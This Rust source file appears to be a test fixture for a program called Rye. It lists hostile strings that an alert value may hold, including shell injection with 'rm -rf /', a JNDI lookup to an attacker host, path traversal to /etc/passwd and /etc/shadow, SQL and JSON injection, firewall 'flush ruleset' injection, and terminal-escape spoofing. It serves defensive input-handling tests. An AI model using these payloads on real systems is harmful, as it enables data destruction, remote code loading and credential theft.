//! What an alert may hold: texts that mean something to shells, templates, look-ups,
//! options, paths, protocols, queries, terminals and readers. To Rye they are text.

/// Each is to arrive as one value, or to be refused.
pub const TEXTS: &[&str] = &[
    "$(touch /tmp/x)",
    "; rm -rf /",
    "`reboot` | sh",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%msg% %HOSTNAME% %n",
    "-rf",
    "--config=/etc/shadow",
    "../../../etc/passwd",
    "a\r\nX-Evil: 1\r\n\r\n{}",
    "a\n<13>1 2026-01-01T00:00:00Z evil - - - - forged",
    "120 <13>1 - - - - - - forged",
    "\"] [evil@1 x=\"y\"] forged",
    "\\\"]\\",
    "\0\0\0\u{2}{}",
    "\"},\"key\":\"0",
    "\"}]}}},{\"flush\":{\"ruleset\":null}}",
    "\"; flush ruleset; #",
    "' OR '1'='1",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}[2J\u{202e}gpj.exe",
    "\u{fffd}\u{feff}\u{2028}",
];
